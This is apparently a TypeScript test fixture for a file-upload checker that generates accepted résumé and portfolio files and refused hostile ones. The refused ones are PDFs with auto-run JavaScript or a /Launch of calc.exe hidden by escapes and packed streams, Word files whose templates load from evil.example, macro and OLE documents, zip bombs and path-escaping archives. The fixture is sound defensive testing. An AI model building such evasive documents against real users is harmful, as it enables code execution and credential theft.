import { deflateSync } from 'node:zlib'
import type { Slot } from '@goodword/contract/limits'
import { makePdf } from '../seed/make-pdf.ts'
import type { Refusal } from '../src/storage/inspection/refusals.ts'
import * as files from './files.ts'
import { LOCKED_PDFS } from './locked-pdfs.ts'
import { MOVING, PHOTOGRAPHS } from './photographs.ts'

/** Kinds of files as people's programs write them, and as attackers do, each made here (lab/pages/file-kinds.md). */

interface Kind {
  what: string
  slot: Slot
  bytes: Uint8Array
}
/** @see SLOTS for the names of types */
export interface Taken extends Kind {
  type: string
}
export interface Refused extends Kind {
  rule: Refusal
}

const PDF = 'application/pdf'
const DOC = 'application/msword'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))
const join = (...parts: (string | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))))

/** A PDF with these objects behind those that every one has. */
const pdfWith = (...objects: (string | Uint8Array)[]) =>
  join(
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n',
    ...objects.flatMap((object, index) => [`${index + 3} 0 obj\n`, object, '\nendobj\n']),
    'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
  )
const stream = (dict: string, data: string | Uint8Array) => join(`<< ${dict} >>\nstream\n`, data, '\nendstream')
/** A stream that holds one object. */
const packed = (
  object: string,
  dict = '/Filter /FlateDecode',
  pack: (data: Uint8Array) => Uint8Array = (data) => deflateSync(data),
) => stream(`/Type /ObjStm /N 1 /First 4 ${dict}`, pack(latin(`9 0 ${object}`)))

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const LAUNCH = '<< /S /Launch /F (calc.exe) >>'
const XFA = '<template><field><event><script>xfa.host.messageBox(1)</script></event></field></template>'

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
interface Word {
  /** Path of its main part. */
  main?: string
  /** Relations of its main part, as attributes. */
  relations?: string[]
  parts?: Record<string, string>
  type?: string
}
const relations = (...elements: string[]) =>
  `<?xml version="1.0"?><Relationships>${elements.map((each) => `<Relationship ${each}/>`).join('')}</Relationships>`
/** A Word document as Word writes one, without its styles. */
function word({ main = 'word/document.xml', relations: own = [], parts = {}, type = MAIN }: Word = {}) {
  return files.makeZip(
    {
      '[Content_Types].xml': `<Types><Override PartName="/${main}" ContentType="${type}"/></Types>`,
      '_rels/.rels': relations(`Id="rId1" Type="${RELATIONS}/officeDocument" Target="/${main}"`),
      [main]: '<w:document/>',
      [main.replace(/[^/]+$/, '_rels/$&.rels')]: relations(...own),
      ...parts,
    },
    { isCompressed: true },
  )
}
const outside = (kind: string, target: string) =>
  `Id="rId9" Type="${RELATIONS}/${kind}" Target="${target}" TargetMode="External"`
const inside = (kind: string, target: string) => `Id="rId9" Type="${RELATIONS}/${kind}" Target="${target}"`

const resume = (what: string, bytes: Uint8Array, type: string): Taken => ({ what, slot: 'resume', bytes, type })
const portfolio = (what: string, bytes: Uint8Array, type: string): Taken => ({ what, slot: 'portfolio', bytes, type })

export const TAKEN: readonly Taken[] = [
  resume('PDF of a word processor', files.pdf, PDF),
  resume('PDF with blanks and line ends in front', join('\r\n \t'.repeat(256), files.pdf), PDF),
  resume('PDF with a byte order mark in front', join('\xef\xbb\xbf', files.pdf), PDF),
  resume('PDF locked against printing, RC4', LOCKED_PDFS['against printing, RC4'], PDF),
  resume('PDF locked against printing, AES', LOCKED_PDFS['against printing, AES'], PDF),
  resume(
    'PDF that mentions JavaScript, JS and /Launch',
    makePdf(['HTML/CSS/JavaScript, Node/JS (10 years), /Launch']),
    PDF,
  ),
  resume(
    'PDF with JavaScript in its keywords and bookmarks',
    pdfWith('<< /Keywords (HTML/JavaScript/JS) /Title (The /Launch of /S) >>', '<< /S /P /T (JavaScript) >>'),
    PDF,
  ),
  resume('PDF with links', pdfWith('<< /S /URI /URI (https://kim.example) >>', '<< /S /GoTo /D [2 0 R /Fit] >>'), PDF),
  resume('PDF with a form', pdfWith('<< /FT /Tx /T (name) /JS null >>', '<< /XFA null >>'), PDF),
  resume('PDF with packed objects', pdfWith(packed('<< /S /URI /URI (https://kim.example) >>')), PDF),
  resume('PDF with a film', pdfWith('<< /S /Rendition /OP 0 >>'), PDF),
  resume('DOC of Word 97 to 2003', files.doc, DOC),
  resume('DOC with names in capitals', files.makeCompoundFile('WORDDOCUMENT'), DOC),
  resume('DOCX of Word', word(), DOCX),
  resume('DOCX of Word for the web', word({ main: 'word/document2.xml' }), DOCX),
  resume('DOCX with links', word({ relations: [outside('hyperlink', 'https://kim.example/?a=1&amp;b=2')] }), DOCX),
  resume('DOCX with the template Normal.dotm', word({ relations: [outside('attachedTemplate', 'Normal.dotm')] }), DOCX),
  resume(
    'DOCX with a template on a drive',
    word({ relations: [outside('attachedTemplate', 'file:///C:\\Users\\Kim%20Park\\Templates\\R&amp;D.dotx')] }),
    DOCX,
  ),
  resume(
    'DOCX with a template of an old Mac',
    word({ relations: [outside('attachedTemplate', 'Macintosh%20HD:Users:kim:Templates:Resume.dotx')] }),
    DOCX,
  ),
  resume('DOCX with a picture beside it', word({ relations: [outside('image', 'photo.png')] }), DOCX),
  resume(
    'DOCX with a chart and its figures',
    word({ parts: { 'word/charts/_rels/chart1.xml.rels': relations(inside('package', '../embeddings/a.xlsx')) } }),
    DOCX,
  ),
  portfolio('ZIP of files', files.zip, 'application/zip'),
  portfolio('PNG', files.png, 'image/png'),
  portfolio('PNG of a camera', PHOTOGRAPHS['image/png'] as Uint8Array, 'image/png'),
  portfolio('PNG, animated', files.animatedPng, 'image/png'),
  portfolio('JPEG', files.jpeg, 'image/jpeg'),
  portfolio('JPEG of a camera', PHOTOGRAPHS['image/jpeg'] as Uint8Array, 'image/jpeg'),
  portfolio('WebP', files.webp, 'image/webp'),
  portfolio('WebP, animated', MOVING['image/webp'] as Uint8Array, 'image/webp'),
  portfolio('GIF', files.gif, 'image/gif'),
  portfolio('GIF, animated', MOVING['image/gif'] as Uint8Array, 'image/gif'),
]

const pdf = (what: string, rule: Refusal, bytes: Uint8Array): Refused => ({ what, slot: 'resume', bytes, rule })
const docx = (what: string, rule: Refusal, bytes: Uint8Array): Refused => ({ what, slot: 'resume', bytes, rule })
const template = (target: string) => word({ relations: [outside('attachedTemplate', target)] })

export const REFUSED: readonly Refused[] = [
  pdf('PDF that runs JavaScript when it opens', 'pdf-javascript', pdfWith(SCRIPT)),
  pdf('PDF with JavaScript, its name in escapes', 'pdf-javascript', pdfWith('<< /#53 /Java#53cript /J#53 (1) >>')),
  pdf('PDF with JavaScript behind a comment', 'pdf-javascript', pdfWith('<< /S % (\n%\r/JavaScript /JS (1) >>')),
  pdf('PDF with JavaScript behind an open bracket', 'pdf-javascript', pdfWith('(', SCRIPT)),
  pdf(
    'PDF with JavaScript in what seems a stream',
    'pdf-javascript',
    pdfWith(stream('/Length 60', `3 0 obj ${SCRIPT}`)),
  ),
  pdf('PDF with JavaScript in a field', 'pdf-javascript', pdfWith(`<< /FT /Tx /AA << /K ${SCRIPT} >> >>`)),
  pdf('PDF with JavaScript, its kind an object', 'pdf-javascript', pdfWith('<< /S 4 0 R /JS (1) >>', '/JavaScript')),
  pdf('PDF with JavaScript, packed', 'pdf-javascript', pdfWith(packed(SCRIPT))),
  pdf('PDF with JavaScript, its kind packed', 'pdf-javascript', pdfWith('<< /S 9 0 R >>', packed('/JavaScript'))),
  pdf(
    'PDF with JavaScript, packed with a wrong checksum',
    'pdf-javascript',
    pdfWith(packed(SCRIPT, '/Filter /FlateDecode', spoilt)),
  ),
  pdf(
    'PDF with JavaScript, packed, its entries in escapes',
    'pdf-javascript',
    pdfWith(packed(SCRIPT, '/F#69lter /Fl')),
  ),
  pdf('PDF with JavaScript in a film', 'pdf-javascript', pdfWith('<< /S /Rendition /JS (1) >>')),
  pdf('PDF with JavaScript in a 3D model', 'pdf-javascript', pdfWith('<< /Type /3D /OnInstantiate 4 0 R >>')),
  pdf('PDF with a script in an XML form', 'pdf-javascript', pdfWith('<< /XFA [(template) 4 0 R] >>', stream('', XFA))),
  pdf(
    'PDF with a packed script in an XML form',
    'pdf-javascript',
    pdfWith('<< /XFA 4 0 R >>', stream('/Filter /FlateDecode', deflateSync(latin(XFA)))),
  ),
  ...Object.entries(LOCKED_PDFS)
    .filter(([what]) => what.startsWith('scripted'))
    .map(([what, bytes]) => pdf(`PDF with JavaScript, packed by qpdf (${what})`, 'pdf-javascript', bytes)),
  pdf('PDF that starts a program', 'pdf-launch', pdfWith(LAUNCH)),
  pdf('PDF that starts a program, its name in escapes', 'pdf-launch', pdfWith('<< /S /#4caunch /F (a) >>')),
  pdf('PDF that starts a program, packed', 'pdf-launch', pdfWith(packed(LAUNCH))),
  pdf('PDF with a password, RC4', 'pdf-password', LOCKED_PDFS['by a password, RC4']),
  pdf('PDF with a password, AES', 'pdf-password', LOCKED_PDFS['by a password, AES']),
  pdf(
    'PDF locked by a certificate',
    'pdf-password',
    join(files.pdf, 'trailer << /Encrypt << /Filter /Adobe.PubSec >> >>'),
  ),
  pdf(
    'PDF with objects packed as nobody does',
    'pdf-unreadable',
    pdfWith(packed(SCRIPT, '/Filter [/ASCIIHexDecode /FlateDecode]')),
  ),
  pdf(
    'PDF with packed objects that break off',
    'pdf-unreadable',
    pdfWith(packed(SCRIPT, '/Filter /FlateDecode', broken)),
  ),
  pdf(
    'PDF with packed objects of gigabytes',
    'pdf-unreadable',
    pdfWith(stream('/N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(101 * 1024 * 1024)))),
  ),
  pdf('PDF with nothing after its first line', 'broken', latin('%PDF-1.7\n')),
  docx('DOCX with macros', 'word-macros', word({ parts: { 'word/vbaProject.bin': '' } })),
  docx(
    'DOCM with another ending',
    'word-macros',
    word({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ),
  docx('DOC with macros', 'word-macros', files.makeCompoundFile('WordDocument', '_VBA_PROJECT')),
  docx(
    'DOCX with an OLE object',
    'word-objects',
    word({ relations: [inside('oleObject', 'embeddings/oleObject1.bin')] }),
  ),
  docx(
    'DOCX with an OLE object by its type',
    'word-objects',
    word({
      type: `${MAIN}"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject`,
    }),
  ),
  docx(
    'DOCX with a workbook in its text',
    'word-objects',
    word({ relations: [inside('package', 'embeddings/a.xlsx')] }),
  ),
  docx(
    'DOCX with an ActiveX control',
    'word-objects',
    word({ relations: [inside('control', 'activeX/activeX1.xml')] }),
  ),
  docx('DOC with an OLE object', 'word-objects', files.makeCompoundFile('WordDocument', 'ObjectPool/', '_1234567890/')),
  docx('DOCX with a template on a website', 'word-external', template('https://evil.example/a.dotm')),
  docx('DOCX with a template on another machine', 'word-external', template('\\\\evil.example\\a.dotm')),
  docx('DOCX with a template on another machine, as a file', 'word-external', template('file://evil.example/a.dotm')),
  docx(
    'DOCX with a template on another machine, by four slashes',
    'word-external',
    template('file:////evil.example/a.dotm'),
  ),
  docx(
    'DOCX with a template on another machine, in escapes',
    'word-external',
    template('file:///%5C%5Cevil.example/a.dotm'),
  ),
  docx(
    'DOCX with a template on another machine, in XML escapes',
    'word-external',
    template('&#92;&#92;evil.example/a.dotm'),
  ),
  docx('DOCX with a template by another protocol', 'word-external', template('mhtml:evil.example!a.dotm')),
  docx(
    'DOCX with a picture on a website',
    'word-external',
    word({ relations: [outside('image', 'https://evil.example/a.png')] }),
  ),
  docx('DOCX with a password', 'word-password', files.makeCompoundFile('EncryptedPackage')),
  docx('DOC with a password', 'word-password', lockedDoc()),
  docx(
    'DOCX of gigabytes',
    'zip-size',
    files.makeZip({ '[Content_Types].xml': '', 'word/document.xml': '' }, { isCompressed: true, expanded: 0xf0000000 }),
  ),
  docx('DOCX that broke off', 'broken', word().subarray(0, -30)),
  {
    what: 'ZIP with a password',
    slot: 'portfolio',
    rule: 'zip-password',
    bytes: files.makeZip({ a: 'b' }, { isLocked: true }),
  },
  {
    what: 'ZIP of gigabytes',
    slot: 'portfolio',
    rule: 'zip-size',
    bytes: files.makeZip({ a: 'b' }, { isCompressed: true, expanded: 0xf0000000 }),
  },
  {
    what: 'ZIP of many files',
    slot: 'portfolio',
    rule: 'zip-entries',
    bytes: files.makeZip(Object.fromEntries(Array.from({ length: 5001 }, (_, at) => [String(at), '']))),
  },
  {
    what: 'ZIP with a path that leads out of it',
    slot: 'portfolio',
    rule: 'zip-path',
    bytes: files.makeZip({ '../a': 'b' }),
  },
  {
    what: 'ZIP behind another one',
    slot: 'portfolio',
    rule: 'zip-hidden',
    bytes: behindAnother(),
  },
  { what: 'ZIP without its list', slot: 'portfolio', rule: 'broken', bytes: files.zip.subarray(0, 40) },
]

function spoilt(data: Uint8Array): Uint8Array {
  const made = deflateSync(data)
  made.fill(0, made.length - 4)
  return made
}

function broken(data: Uint8Array): Uint8Array {
  const made = deflateSync(data)
  made[2] = 0x07
  return made
}

/** The first sector of its text says that it is locked. */
function lockedDoc(): Uint8Array {
  const file = Buffer.concat([files.makeCompoundFile('WordDocument'), Buffer.alloc(512)])
  file.writeUInt16LE(9, 30)
  file.writeUInt32LE(2, 1024 + 128 + 116)
  file.writeUInt16LE(0xa5ec, 1536)
  file.writeUInt16LE(0x0100, 1546)
  return new Uint8Array(file)
}

/** Its list names one file, and begins behind another one. */
function behindAnother(): Uint8Array {
  const front = files.makeZip({ b: '' }).subarray(0, 31)
  const file = Buffer.from(join(front, files.zip))
  const [list, end] = [file.lastIndexOf('PK\x01\x02'), file.lastIndexOf('PK\x05\x06')]
  file.writeUInt32LE(front.length, list + 42)
  file.writeUInt32LE(list, end + 16)
  return new Uint8Array(file)
}
